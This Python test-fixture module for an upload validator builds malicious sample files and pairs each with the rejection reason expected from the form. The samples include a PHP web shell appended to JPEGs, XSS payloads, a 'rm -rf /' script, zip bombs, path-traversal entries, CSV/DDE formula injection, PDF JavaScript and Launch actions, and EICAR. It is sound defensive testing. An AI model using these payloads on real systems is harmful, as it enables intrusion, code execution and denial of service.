"""Files that somebody might send with bad intent, and some that people really send.

Each is a function that makes it: nothing dangerous lies in the repository, and no scanner of a
developer's machine takes the checkout for infected.
"""

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

from submissions.attachments.limits import LARGEST_FILE
from submissions.attachments.packed_files import CONTENT_TYPES

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELATIONSHIPS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/{type}" Target="{target}" TargetMode="External"/></Relationships>'
)
MAIN_PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
ENCRYPTED_ODF = '<manifest:file-entry><manifest:encryption-data checksum=""/></manifest:file-entry>'
PHP = b"<?php system($_GET['c']); ?>"
PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\xcc" * 500


def office(extension="docx", parts=None, *, kind=None, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A document of Word, Excel or PowerPoint with further parts: names and contents."""
    content_type = kind or CONTENT_TYPES[extension] + ".main+xml"
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/x" ContentType="{content_type}"/></Types>'
    )
    main = {MAIN_PART[extension]: "<document>Guten Tag</document>"} if kind is None else {}
    return packed({"[Content_Types].xml": types} | main | (parts or {}), compression=compression)


def open_document(extension="odt", parts=None, *, mimetype=None) -> bytes:
    """A document of LibreOffice."""
    output = BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), mimetype or CONTENT_TYPES[extension], zipfile.ZIP_STORED
        )
        for name, content in ({"content.xml": "<office:document/>"} | (parts or {})).items():
            archive.writestr(name, content)
    return output.getvalue()


def packed(parts, *, comment=b"", compression=zipfile.ZIP_DEFLATED) -> bytes:
    output = BytesIO()
    with zipfile.ZipFile(output, "w", compression) as archive:
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            archive.writestr(name, content)
        archive.comment = comment
    return output.getvalue()


def _link_to_passwords() -> bytes:
    entry = zipfile.ZipInfo("word/link.xml")
    entry.external_attr = 0o120777 << 16
    return _with_entry(entry, "/etc/passwd")


def _with_entry(entry, content) -> bytes:
    output = BytesIO(office())
    with zipfile.ZipFile(output, "a") as archive:
        archive.writestr(entry, content)
    return output.getvalue()


def protected() -> bytes:
    """Every entry says that it is encrypted."""
    content = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(mark, at + 1)) != -1:
            content[at + offset] |= 1
    return bytes(content)


def lying() -> bytes:
    """An entry that is a thousand times larger than it says."""
    content = bytearray(office(parts={"word/media.xml": b"\x20" * 50_000_000}))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/media.xml"))
    struct.pack_into("<L", content, at + 24, 50_000)
    return bytes(content)


def overlapping() -> bytes:
    """Many entries in the list, one and the same in the file."""
    content = office(parts={"word/a.xml": b"\x20" * 500_000})
    end = content.rfind(b"PK\x05\x06")
    start = content.rfind(b"PK\x01\x02", 0, end)
    listed = content[start:end]
    copies = b"".join(
        listed.replace(b"word/a.xml", f"word/{number:1d}.xml".encode()) for number in range(10)
    )
    number = struct.unpack("<H", content[end + 10 : end + 12])[0] + 10
    first = struct.unpack("<L", content[end + 16 : end + 20])[0]
    tail = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, number, number, end + len(copies) - first, first, 0
    )
    return content[:end] + copies + tail


def pdf(body=b"", *, head=b"%PDF-1.7\n", trailer=b"", tail=b"") -> bytes:
    """A small PDF with further objects."""
    return (
        head
        + b"1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n"
        + b"2 0 obj\n<</Type /Pages /Kids [] /Count 0>>\nendobj\n"
        + body
        + b"trailer\n<</Root 1 0 R "
        + trailer
        + b">>\nstartxref\n9\n%%EOF\n"
        + tail
    )


def packed_objects(content: bytes) -> bytes:
    """A PDF with objects that nobody sees before they are unpacked."""
    stream = zlib.compress(content, 9)
    return pdf(
        b"5 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(stream)).encode()
        + b">>\nstream\n"
        + stream
        + b"\nendstream\nendobj\n"
    )


def picture(kind="JPEG", size=(64, 48), mode="RGB", **options) -> bytes:
    output = BytesIO()
    Image.new(mode, size, "#4a9a67" if mode != "1" else 1).save(output, kind, **options)
    return output.getvalue()


def png_of(width, height) -> bytes:
    """A PNG that says how large it is and holds next to nothing."""

    def chunk(kind, content):
        body = kind + content
        return struct.pack("!L", len(content)) + body + struct.pack("!L", zlib.crc32(body))

    head = struct.pack("!LLBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def jpeg_of(width, height) -> bytes:
    content = bytearray(picture())
    at = content.find(b"\xff\xc0")
    struct.pack_into("!HH", content, at + 5, height, width)
    return bytes(content)


def commented_jpeg(comment: bytes) -> bytes:
    content = picture()
    return content[:2] + b"\xff\xfe" + struct.pack("!H", len(comment) + 2) + comment + content[2:]


def spaces(size) -> bytes:
    return b" " * size


# Name, content, and the reason that the form gives.
EVIL = [
    # Something else under the name of a document
    ("seite.pdf", lambda: PAGE, "content"),
    ("bild.pdf", lambda: DRAWING, "content"),
    ("programm.pdf", lambda: PROGRAM, "content"),
    ("skript.pdf", lambda: b"window.location = 'https://example.org'", "content"),
    ("archiv.pdf", lambda: packed({"a.txt": "a"}), "content"),
    ("text.pdf", lambda: b"Guten Tag", "content"),
    ("seite.jpg", lambda: PAGE, "mixed"),
    ("zeichnung.png", lambda: DRAWING, "content"),
    ("programm.jpg", lambda: PROGRAM, "content"),
    ("bewegt.png", lambda: picture("GIF"), "content"),
    ("foto.tiff.jpg", lambda: picture("TIFF"), "content"),
    ("programm.docx", lambda: PROGRAM, "content"),
    ("seite.docx", lambda: PAGE, "content"),
    ("archiv.docx", lambda: packed({"a.txt": "a"}), "content"),
    ("tabelle.docx", lambda: office("xlsx"), "content"),
    ("text.odt", lambda: open_document("ods"), "content"),
    ("vorlage.odt", lambda: open_document(mimetype="application/x-msdownload"), "content"),
    ("archiv.odt", lambda: packed({"content.xml": "a", "mimetype": "a"}), "content"),
    ("seite.txt", lambda: PAGE, "content"),
    ("bild.txt", lambda: b"\n  " + DRAWING, "content"),
    ("shell.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "content"),
    ("formatiert.txt", lambda: rb"{\rtf1\ansi Guten Tag}", "content"),
    ("seite.csv", lambda: b"Name;Ort\n<script>alert(1)</script>;Torgau\n", "content"),
    ("null.txt", lambda: b"Guten\x00Tag", "content"),
    ("steuern.txt", lambda: b"Guten\x1b]0;Tag\x07", "content"),
    ("programm.txt", lambda: PROGRAM, "content"),
    ("alt.txt", lambda: "Grüße".encode("cp1252"), "encoding"),
    ("breit.csv", lambda: "Name;Größe".encode("utf-16"), "encoding"),
    # Kinds that nobody needs to send
    ("programm.exe", lambda: PROGRAM, "kind"),
    ("rechnung.pdf.exe", lambda: PROGRAM, "kind"),
    ("seite.html", lambda: PAGE, "kind"),
    ("zeichnung.svg", lambda: DRAWING, "kind"),
    ("skript.js", lambda: b"alert(1)", "kind"),
    ("archiv.zip", lambda: packed({"a.txt": "a"}), "kind"),
    ("makro.docm", lambda: office(parts={"word/vbaProject.bin": b"x"}), "kind"),
    ("verweis.lnk", lambda: b"L\x00\x00\x00", "kind"),
    ("ohne-endung", pdf, "kind"),
    (".htaccess", lambda: b"AddType application/x-httpd-php .pdf", "kind"),
    ("gedreht\u202efdp.exe", lambda: PROGRAM, "kind"),
    ("leer.pdf", lambda: b"", "empty"),
    ("groß.pdf", lambda: pdf(spaces(LARGEST_FILE)), "too_large"),
    # Archives that unpack to more than anybody has
    ("bombe.docx", lambda: office(parts={"word/a.xml": spaces(90_000_000)}), "bomb"),
    ("bombe.xlsx", lambda: office("xlsx", {"xl/a.xml": spaces(101 * 1024 * 1024)}), "bomb"),
    ("bombe.odt", lambda: open_document(parts={"a.xml": spaces(60_000_000)}), "bomb"),
    (
        "verschachtelt.docx",
        lambda: office(
            parts={
                f"word/embeddings/{number}.xlsx": office("xlsx", {"xl/a.xml": spaces(40_000_000)})
                for number in range(3)
            }
        ),
        "bomb",
    ),
    ("viele.docx", lambda: office(parts={f"word/{n}.xml": "" for n in range(1100)}), "bomb"),
    ("lügt.docx", lying, "damaged"),
    ("übereinander.docx", overlapping, "damaged"),
    # … with names that lead elsewhere
    ("oben.docx", lambda: office(parts={"../../etc/cron.d/a.xml": "a"}), "mixed"),
    ("wurzel.docx", lambda: office(parts={"/etc/passwd": "a"}), "mixed"),
    ("laufwerk.docx", lambda: office(parts={"C:/windows/a.xml": "a"}), "mixed"),
    ("verweis.docx", _link_to_passwords, "mixed"),
    ("doppelt.docx", lambda: _twice("word/document.xml"), "mixed"),
    # … with something that runs, hides, or is fetched
    ("makro.docx", lambda: office(parts={"word/vbaProject.bin": b"x"}), "active"),
    ("makro.xlsx", lambda: office("xlsx", {"xl/VBAPROJECT.BIN": b"x"}), "active"),
    ("excel4.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "active"),
    (
        "umbenannt.docx",
        lambda: office(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "active",
    ),
    ("activex.pptx", lambda: office("pptx", {"ppt/activeX/activeX1.xml": "<a/>"}), "active"),
    ("basic.ods", lambda: open_document("ods", {"Basic/Standard/Modul.xml": "<a/>"}), "active"),
    ("skripte.odt", lambda: open_document(parts={"Scripts/python/a.py": "pass"}), "active"),
    (
        "ereignis.odp",
        lambda: open_document(
            "odp", {"styles.xml": '<a xlink:href="vnd.sun.star.script:Standard.Modul.Main"/>'}
        ),
        "active",
    ),
    ("dde.docx", lambda: office(parts={"word/f.xml": "<w:instrText>DDEAUTO c:\\\\cmd"}), "active"),
    ("programm.pptx", lambda: office("pptx", {"ppt/media/a.bin": PROGRAM}), "active"),
    (
        "objekt.docx",
        lambda: office(parts={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1a"}),
        "active",
    ),
    (
        "vorlage.docx",
        lambda: office(
            parts={
                "word/_rels/settings.xml.rels": RELATIONSHIPS.format(
                    type="attachedTemplate", target="https://example.org/boese.dotm"
                )
            }
        ),
        "active",
    ),
    ("darin.docx", lambda: office(parts={"word/a.bin": packed({"b.exe": PROGRAM})}), "mixed"),
    (
        "lachen.docx",
        lambda: office(parts={"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]>'}),
        "mixed",
    ),
    (
        "lachen16.docx",
        lambda: office(parts={"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]>'.encode("utf-16")}),
        "mixed",
    ),
    ("geheim.docx", protected, "encrypted"),
    ("geheim.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000, "encrypted"),
    (
        "geheim.odt",
        lambda: open_document(parts={"META-INF/manifest.xml": ENCRYPTED_ODF}),
        "encrypted",
    ),
    ("halb.docx", lambda: office()[:-30], "damaged"),
    ("kaputt.xlsx", lambda: _broken(office("xlsx", {"xl/a.xml": "Guten Tag" * 500})), "damaged"),
    # Two files in one
    ("pdf-davor.docx", lambda: pdf() + office(), "content"),
    ("archiv-davor.pdf", lambda: office() + pdf(), "content"),
    ("archiv-dahinter.pdf", lambda: pdf() + packed({"a.exe": PROGRAM}), "mixed"),
    ("seite.davor.pdf", lambda: PAGE + pdf(), "content"),
    ("seite-darin.pdf", lambda: pdf(head=b"%PDF-1.4\n" + PAGE), "mixed"),
    ("gifar.jpg", lambda: picture() + packed({"a.class": b"\xca\xfe\xba\xbe"}), "mixed"),
    ("php.jpg", lambda: picture() + PHP, "mixed"),
    ("php-kommentar.jpg", lambda: commented_jpeg(PHP), "mixed"),
    ("pdf.jpg", lambda: picture() + pdf(), "mixed"),
    ("seite.png", lambda: picture("PNG") + PAGE, "mixed"),
    ("kommentar.docx", lambda: _comment(office(), PAGE), "mixed"),
    ("dahinter.docx", lambda: office() + PHP, "mixed"),
    ("zwei.docx", lambda: office() + office(), "mixed"),
    # Paper that does something
    ("javascript.pdf", lambda: pdf(b"3 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\n"), "active"),
    ("verborgen.pdf", lambda: pdf(b"3 0 obj\n<</S /J#61va#53cript /JS (a)>>\n"), "active"),
    ("gepackt.pdf", lambda: packed_objects(b"<</S /JavaScript /JS (a)>>"), "active"),
    ("start.pdf", lambda: pdf(b"3 0 obj\n<</S /Launch /F (cmd.exe)>>\n"), "active"),
    ("anhang.pdf", lambda: pdf(b"3 0 obj\n<</Type /EmbeddedFile>>\n"), "active"),
    ("geheim.pdf", lambda: pdf(trailer=b"/Encrypt 9 0 R"), "encrypted"),
    ("bombe.pdf", lambda: packed_objects(spaces(40_000_000)), "bomb"),
    ("halb.pdf", lambda: pdf()[:-20], "damaged"),
    # Pictures that fill the memory
    ("riesig.png", lambda: png_of(30_000, 30_000), "too_many_pixels"),
    ("groß.png", lambda: png_of(12_000, 10_000), "too_many_pixels"),
    ("breit.png", lambda: png_of(2_000_000, 50), "too_many_pixels"),
    ("riesig.jpg", lambda: jpeg_of(65_000, 65_000), "too_many_pixels"),
    (
        "riesig.webp",
        lambda: picture("WEBP", (16_000, 9_000), quality=1, method=0),
        "too_many_pixels",
    ),
    ("schwarz.png", lambda: picture("PNG", (12_200, 12_200), "1"), "too_many_pixels"),
    ("voll.png", lambda: picture("PNG", (8_000, 6_000), compress_level=1), "too_many_pixels"),
    (
        "voll.jpg",
        lambda: picture("JPEG", (6_000, 5_000), progressive=True, quality=20),
        "too_many_pixels",
    ),
    ("halb.jpg", lambda: picture(size=(640, 480))[:-200], "content"),
    ("kopf.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 200, "content"),
    # A table that reckons in the program of whoever opens it
    ("dde.csv", lambda: b"Name;Ort\n=cmd|' /C calc'!A0;Torgau\n", "formulas"),
    ("verweis.csv", lambda: b'Name;Ort\nAnna;"=HYPERLINK(""https://example.org"")"\n', "formulas"),
    ("summe.csv", lambda: b"Name;@SUM(1+1)*cmd|' /C calc'!A0\n", "formulas"),
    ("plus.csv", lambda: b"Name;+cmd|' /C calc'!A0\n", "formulas"),
]

# Not to be known by looking: the scanner's work.
FOR_THE_SCANNER = [
    ("eicar.txt", lambda: EICAR),
    ("eicar.docx", lambda: office(parts={"word/media/a.bin": EICAR})),
    ("eicar.odt", lambda: open_document(parts={"Pictures/a.bin": EICAR})),
    ("eicar.pdf", lambda: pdf(b"% " + EICAR + b"\n")),
]


def _twice(name) -> bytes:
    return _with_entry(zipfile.ZipInfo(name.upper()), "<document>anders</document>")


def _broken(content) -> bytes:
    middle = content.rfind(b"xl/a.xml", 0, content.rfind(b"PK\x01\x02")) + 12
    return (
        content[:middle]
        + bytes(255 - sign for sign in content[middle : middle + 8])
        + content[middle + 8 :]
    )


def _comment(content, comment) -> bytes:
    return content[:-2] + struct.pack("<H", len(comment)) + comment
